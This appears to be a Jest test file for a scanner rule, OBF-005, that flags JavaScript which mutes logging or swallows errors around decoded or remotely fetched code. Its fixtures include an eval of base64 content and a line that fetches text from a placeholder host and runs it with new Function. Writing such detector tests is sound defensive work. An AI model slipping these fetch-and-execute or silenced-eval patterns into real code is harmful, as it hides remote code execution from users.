import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const RUN = `eval(Buffer.from(blob, 'base64').toString());`;

const found = [
  ['a console of nothing', `console.log = function () {}; console.error = () => {}; ${RUN}`],
  ['errors that are swallowed', `process.on('uncaughtException', () => {}); ${RUN}`],
  [
    'output that goes nowhere',
    `process.stdout.write = () => {}; fetch('https://a.example.invalid').then((r) => r.text()).then((t) => new Function(t)());`,
  ],
] as const;

const passed = [
  ['a quiet mode', `if (quiet) console.log = () => {}; run();`],
  ['errors that are told', `process.on('uncaughtException', (e) => { report(e); }); ${RUN}`],
  ['a test that mutes', `beforeEach(() => { console.error = () => {}; }); decode(atob(text));`],
] as const;

describe('OBF-005 silences the program around decoded code', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('OBF-005', js(source))).toEqual(['medium index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('OBF-005', js(source))).toEqual([]);
  });
});
